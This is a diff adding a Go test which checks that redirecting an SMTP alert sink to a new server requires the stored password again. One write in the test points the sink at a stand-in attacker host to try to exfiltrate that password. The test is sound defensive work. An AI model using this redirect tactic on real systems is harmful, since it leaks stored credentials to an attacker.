@@ -250,3 +250,33 @@ func TestAlertSinksAPI(t *testing.T) {
 		}
 	}
 }
+
+// TestSinkURLChangeNeedsThePasswordAgain: a stored SMTP password is never
+// sent to a server the writer picked without also supplying it, so update
+// on a sink cannot exfiltrate a password that reads never show.
+func TestSinkURLChangeNeedsThePasswordAgain(t *testing.T) {
+	n := nodetest.Start(t)
+	c := n.Client(t)
+	pass := "smtp-" + rand.Text()
+	_, err := c.Logical().Write("sys/watch/sinks/mail", map[string]any{"type": "smtp", "url": "smtp://mail.example.test:587",
+		"from": "k@example.test", "to": []string{"o@example.test"}, "username": "u", "password": pass})
+	mustOK(t, "write smtp", err)
+
+	_, err = c.Logical().Write("sys/watch/sinks/mail", map[string]any{"url": "smtp://attacker.example.test:587"})
+	if status(err) != http.StatusBadRequest || !strings.Contains(err.Error(), "password") || strings.Contains(err.Error(), pass) {
+		t.Fatalf("url change keeping the stored password = %v, want a 400 asking for the password", err)
+	}
+	read, err := c.Logical().Read("sys/watch/sinks/mail")
+	mustOK(t, "read smtp", err)
+	if read.Data["url"] != "smtp://mail.example.test:587" {
+		t.Errorf("refused update changed the sink: %v", read.Data)
+	}
+	// The same server, other settings: the password stays.
+	_, err = c.Logical().Write("sys/watch/sinks/mail", map[string]any{"min_severity": "high", "url": "smtp://mail.example.test:587"})
+	mustOK(t, "update smtp", err)
+	// A new server with the password given again, or with the credentials cleared.
+	_, err = c.Logical().Write("sys/watch/sinks/mail", map[string]any{"url": "smtp://relay.example.test:587", "password": pass})
+	mustOK(t, "move smtp with password", err)
+	_, err = c.Logical().Write("sys/watch/sinks/mail", map[string]any{"url": "smtp://other.example.test:25", "username": "", "password": ""})
+	mustOK(t, "move smtp without credentials", err)
+}
